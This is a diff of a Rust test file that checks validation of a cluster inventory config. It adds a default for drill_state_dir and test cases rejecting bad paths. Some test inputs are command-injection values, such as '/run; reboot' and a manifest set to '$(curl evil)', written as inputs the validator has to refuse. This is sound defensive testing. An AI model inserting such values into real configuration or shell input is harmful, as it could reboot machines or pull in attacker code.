@@ -51,6 +51,7 @@ fn a_good_inventory_loads_with_its_defaults() {
     assert_eq!(inv.pod_cidr, "192.168.0.0/16");
     assert_eq!(inv.service_cidr, "10.96.0.0/12");
     assert_eq!(inv.cri_socket, "unix:///var/run/containerd/containerd.sock");
+    assert_eq!(inv.drill_state_dir, "/run");
     assert_eq!(inv.cni.name, "calico");
     assert!(inv.cni.manifest.ends_with("/manifests/calico.yaml"));
     assert_eq!((inv.ssh.user.as_str(), inv.ssh.port), ("ubuntu", 22));
@@ -209,6 +210,14 @@ fn field_values_are_checked_where_they_are() {
                 "cri_socket = \"unix:///run/c.sock; reboot\"",
             ),
             "hatui.toml:1: cri_socket: \"unix:///run/c.sock; reboot\" is not one path or URL",
+        ),
+        (
+            with("name = \"prod\"", "drill_state_dir = \"run\""),
+            "hatui.toml:1: drill_state_dir: \"run\" is not an absolute path",
+        ),
+        (
+            with("name = \"prod\"", "drill_state_dir = \"/run; reboot\""),
+            "hatui.toml:1: drill_state_dir: \"/run; reboot\" is not one path or URL",
         ),
         (
             with("[ssh]", "[cni]\nmanifest = \"$(curl evil)\"\n[ssh]"),
